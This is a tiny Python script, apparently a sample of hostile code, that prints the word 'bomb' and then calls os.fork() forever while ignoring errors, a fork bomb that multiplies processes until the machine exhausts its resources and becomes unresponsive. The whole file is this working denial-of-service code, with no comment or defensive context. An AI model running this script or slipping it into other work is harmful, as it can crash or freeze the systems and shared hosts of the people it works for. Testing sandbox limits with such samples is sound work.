import os

print("bomb", flush=True)
while True:
    try:
        os.fork()
    except OSError:
        pass
